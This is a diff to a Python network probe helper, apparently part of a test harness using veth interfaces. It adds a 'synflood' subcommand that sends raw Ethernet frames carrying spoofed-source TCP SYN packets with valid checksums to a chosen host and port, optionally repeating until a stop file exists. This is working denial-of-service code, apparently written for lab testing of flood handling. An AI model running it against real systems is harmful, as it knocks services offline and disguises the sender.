@@ -16,7 +16,7 @@
 #   tcp-probe --dst IP --port P [--timeout S]    prints connected | timeout | refused | error ...
 #   udp-probe --dst IP --port P [--timeout S]    sends one datagram; prints reply | timeout | refused
 #       (refused: an ICMP port unreachable came back and the kernel matched it to the socket)
-import argparse, hashlib, os, socket, sys, threading, time
+import argparse, hashlib, os, socket, struct, sys, threading, time
 
 
 def family(ip):
@@ -164,6 +164,62 @@ def udp_probe(a):
         print("refused")
 
 
+def csum16(data):
+    if len(data) % 2:
+        data += b"\0"
+    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
+    while s >> 16:
+        s = (s & 0xFFFF) + (s >> 16)
+    return s
+
+
+def synflood(a):
+    """Sends COUNT spoofed TCP SYNs (sources 198.51.100.16-254 x ports 1024-65535) to DST:PORT as raw
+    frames on eth0 (to the router MAC), with valid checksums (the next source port's TCP checksum is
+    the last one's minus one, in ones' complement); with --until FILE it goes on, round after round of
+    the same COUNT, until FILE exists. Prints "sent N" at the end."""
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    s.bind(("eth0", 0))
+    mac = lambda m: bytes(int(x, 16) for x in m.split(":"))
+    dst = socket.inet_aton(a.dst)
+    eth = mac(a.router) + mac(a.mac) + b"\x08\x00"
+    sent = 0
+    frame = None
+    n = 0
+    while n == 0 or (a.until and not os.path.exists(a.until)):
+        sent += flood_round(s, a, eth, dst)
+        n += 1
+    out("sent %d" % sent)
+
+
+def flood_round(s, a, eth, dst):
+    sent = 0
+    frame = None
+    for i in range(a.count):
+        sport = 1024 + i % 64512
+        if i % 64512 == 0:
+            src = bytes((198, 51, 100, 16 + (i // 64512) % 239))
+            ip = bytearray(b"\x45\x00\x00\x28\x00\x01\x40\x00\x40\x06\x00\x00" + src + dst)
+            ip[10:12] = struct.pack("!H", 0xFFFF - csum16(bytes(ip)))
+            tcp = bytearray(struct.pack("!HHIIBBHHH", sport, a.port, 1, 0, 0x50, 0x02, 8192, 0, 0))
+            pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
+            sum0 = csum16(pseudo + bytes(tcp))  # the sum (not complemented) for this first port
+            frame = bytearray(eth + ip + tcp)
+        else:
+            frame[34:36] = struct.pack("!H", sport)
+        # the sum grows by one per port step (ones' complement arithmetic)
+        k = sum0 + (i % 64512)
+        while k >> 16:
+            k = (k & 0xFFFF) + (k >> 16)
+        frame[50:52] = struct.pack("!H", 0xFFFF - k)
+        try:
+            s.send(frame)
+            sent += 1
+        except OSError:  # the veth's queue is full: the flood is lossy by nature
+            time.sleep(0.0001)
+    return sent
+
+
 def main():
     p = argparse.ArgumentParser()
     sub = p.add_subparsers(dest="cmd", required=True)
@@ -186,8 +242,14 @@ def main():
         q.add_argument("--dst", required=True)
         q.add_argument("--port", type=int, required=True)
         q.add_argument("--timeout", type=float, default=3)
+    f = sub.add_parser("synflood")
+    for k in ("--dst", "--mac", "--router"):
+        f.add_argument(k, required=True)
+    f.add_argument("--port", type=int, required=True)
+    f.add_argument("--count", type=int, required=True)
+    f.add_argument("--until")
     a = p.parse_args()
-    {"serve": serve, "conn": conn, "tcp-probe": tcp_probe, "udp-probe": udp_probe}[a.cmd](a)
+    {"serve": serve, "conn": conn, "tcp-probe": tcp_probe, "udp-probe": udp_probe, "synflood": synflood}[a.cmd](a)
 
 
 if __name__ == "__main__":
